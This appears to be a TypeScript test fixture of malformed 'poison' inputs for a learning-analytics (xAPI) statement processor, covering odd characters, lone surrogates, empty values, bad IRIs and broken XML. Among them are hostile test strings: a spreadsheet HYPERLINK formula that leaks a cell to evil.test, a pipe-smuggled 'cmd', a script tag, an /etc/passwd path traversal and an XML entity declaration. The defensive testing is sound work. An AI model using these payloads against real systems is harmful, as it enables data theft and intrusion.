import { context, oli } from '../processors/route/statements.js'
import { type Poison, with_, written } from './poison.js'

const name = ['actor', 'account', 'name']
const host = ['actor', 'account', 'homePage']
const section = context('section_id')
const part = context('part_id')
const title = ['object', 'definition', 'name', 'en-US']
const response = ['result', 'response']

/** Text that has a meaning to somebody on the way: keys, CSV, spreadsheets, XML, paths, shells, format strings. */
const odd: Readonly<Record<string, string>> = {
  'a vertical bar': 'a|b',
  percents: '100%|%7C%25',
  'a line end': 'a\nb',
  'a carriage return': 'a\rb',
  'both ends': 'a\r\nb\r\n',
  quotes: '"a" "" \'b\'',
  'one quote': '"',
  'commas and semicolons': ',a;b\t,',
  blanks: '  a  b  ',
  'a blank': ' ',
  'a backslash': '\\',
  'a formula': '=HYPERLINK("http://evil.test?"&A1,"click")',
  'a plus': '+1+1',
  'a minus': '-2+3|cmd',
  'an at': '@SUM(A1:A9)',
  'a tab and a formula': '\t=1+1',
  markup: '<script>alert(1)</script>&amp;]]>',
  'the end of a path': '../../../etc/passwd',
  'a null byte': 'a\u0000b',
  'control characters': '\u0001\u0008\u001f\u007f\u009f',
  'an emoji': '👩🏽‍🔬',
  'right to left': '\u202eabc\u202c',
  'a byte order mark': '\ufeffa',
  'line separators': 'a\u2028b\u2029c\u0085d',
  'not a character': '\uffff\ufffe',
  null: 'null',
  'a marker': 'marker|run',
  'not a number': 'NaN',
}
const text = Object.entries(odd).flatMap(([what, value]): Poison[] => [
  with_(`a learner: ${what}`, 'page_viewed', name, value, 'page_viewed'),
  with_(`a host: ${what}`, 'page_viewed', host, value, 'page_viewed'),
  with_(`a section: ${what}`, 'page_viewed', section, value, 'page_viewed'),
  with_(`a part: ${what}`, 'part_attempt', part, value, 'part_attempt'),
  with_(`a title: ${what}`, 'video_played', title, value, 'video_played'),
  with_(`an object: ${what}`, 'video_paused', ['object', 'id'], value, 'video_paused'),
  with_(`an answer: ${what}`, 'part_attempt', response, { input: value, [value]: [value] }, 'part_attempt'),
  with_(`hints: ${what}`, 'part_attempt', context('hints_requested'), [value, 'h', value], 'part_attempt'),
  with_(`another statement: ${what}`, 'other_torus', ['result'], { [value]: value }, 'other'),
])

/** Half of a pair. UTF-8 cannot say it, only an escape can bring it. */
const half = ['"\\ud83d"', '"a\\udc00b"', '"\\udc00\\ud83d"', `"${'long '.repeat(20)}\\uD83D"`]
const halves = half.flatMap((json, i): Poison[] => [
  written(`half a pair ${i} in a learner`, 'page_viewed', name, json.replace('"', `"${i}`), 'page_viewed'),
  written(`half a pair ${i} in a host`, 'page_viewed', host, json, 'page_viewed'),
  written(`half a pair ${i} in a section`, 'page_viewed', section, json, 'page_viewed'),
  written(`half a pair ${i} in a part`, 'part_attempt', part, json, 'part_attempt'),
  written(`half a pair ${i} in a title`, 'video_played', title, json, 'video_played'),
  written(
    `half a pair ${i} in a time`,
    'video_played',
    ['result', 'extensions', 'https://w3id.org/xapi/video/extensions/time'],
    json,
    'video_played',
  ),
  written(`half a pair ${i} in a sub type`, 'page_viewed', ['object', 'definition', 'subType'], json, 'page_viewed'),
  written(`half a pair ${i} in an object`, 'page_viewed', ['object', 'id'], json, 'page_viewed'),
  written(`half a pair ${i} in a verb`, 'page_viewed', ['verb', 'id'], json, 'other'),
  written(`half a pair ${i} in a mailbox`, 'xapi_other_mbox', ['actor', 'mbox'], json, 'other'),
  written(`half a pair ${i} in a course`, 'xapi_video', ['context', 'contextActivities', 'parent', 'id'], json, 'video_played'),
  written(`half a pair ${i} in an answer`, 'part_attempt', response, `{${json}:${json}}`, 'part_attempt'),
  written(`half a pair ${i} in an attribution`, 'page_attempt', context('experiment_attributions'), `[${json}]`, 'page_attempt'),
])

const empty: readonly Poison[] = [
  with_('an empty learner', 'page_viewed', name, '', 'bad_value'),
  with_('an empty host', 'page_viewed', host, '', 'page_viewed'),
  with_('a host of slashes', 'page_viewed', host, '////', 'page_viewed'),
  with_('a host that is only a scheme', 'page_viewed', host, 'https://', 'page_viewed'),
  with_('an empty section', 'page_viewed', section, '', 'page_viewed'),
  with_('an empty verb', 'page_viewed', ['verb', 'id'], '', 'other'),
  with_('an object without a name', 'page_viewed', ['object', 'id'], '', 'page_viewed'),
  with_('an empty page', 'page_viewed', context('page_id'), '', 'page_viewed'),
  with_('an empty attempt number', 'page_viewed', context('page_attempt_number'), '', 'bad_value'),
  with_('an empty mailbox', 'xapi_other_mbox', ['actor', 'mbox'], '', 'bad_value'),
  with_('an empty answer', 'part_attempt', response, '', 'part_attempt'),
  with_('empty lists', 'part_attempt', context('attached_objectives'), [], 'part_attempt'),
  with_('no titles', 'video_played', ['object', 'definition', 'name'], {}, 'video_played'),
  with_('no attributions', 'page_attempt', context('experiment_attributions'), [], 'page_attempt'),
  with_('an empty key', 'part_attempt', ['result', ''], 1, 'part_attempt'),
]

const iris: readonly Poison[] = [
  with_('a verb with blanks', 'page_viewed', ['verb', 'id'], 'http://id.tincanapi.com/verb/ viewed', 'other'),
  with_('a verb in capitals', 'page_viewed', ['verb', 'id'], 'HTTP://ID.TINCANAPI.COM/VERB/VIEWED', 'other'),
  with_('a verb with another scheme', 'page_viewed', ['verb', 'id'], 'https://id.tincanapi.com/verb/viewed', 'other'),
  with_('a verb with a slash too many', 'page_viewed', ['verb', 'id'], 'http://id.tincanapi.com/verb/viewed/', 'other'),
  with_('a display word for a verb', 'page_viewed', ['verb', 'id'], 'viewed', 'other'),
  with_('an object with blanks', 'page_viewed', ['object', 'id'], 'http://one.test/a page of mine', 'page_viewed'),
  with_('an object of 8,192 characters', 'other_torus', ['object', 'id'], 'o'.repeat(8192), 'other'),
  with_('an object of 8,193 characters', 'other_torus', ['object', 'id'], 'o'.repeat(8193), 'bad_value'),
  with_('a type with blanks', 'page_viewed', ['object', 'definition', 'type'], `${oli}types/ page`, 'other'),
  with_('a mailbox without its scheme', 'xapi_other_mbox', ['actor', 'mbox'], 'somebody', 'other'),
]

const broken = [
  '<message>',
  '<message><tool_message></message>',
  '<message>&nbsp;&#0;</message>',
  '<!DOCTYPE m [<!ENTITY a "aaaa">]><message>&a;</message>',
  ']]>',
  '<?xml version="9"?>',
  'no XML at all',
]
const messages = [...broken, ...Object.values(odd)].map((message, i) =>
  with_(`tutor message ${i} that is no XML`, 'tutor_message', ['result', 'message'], message, 'tutor_message'),
)

/** Names that mean something to somebody on the way. */
export const names: readonly Poison[] = [...text, ...halves, ...empty, ...iris, ...messages]
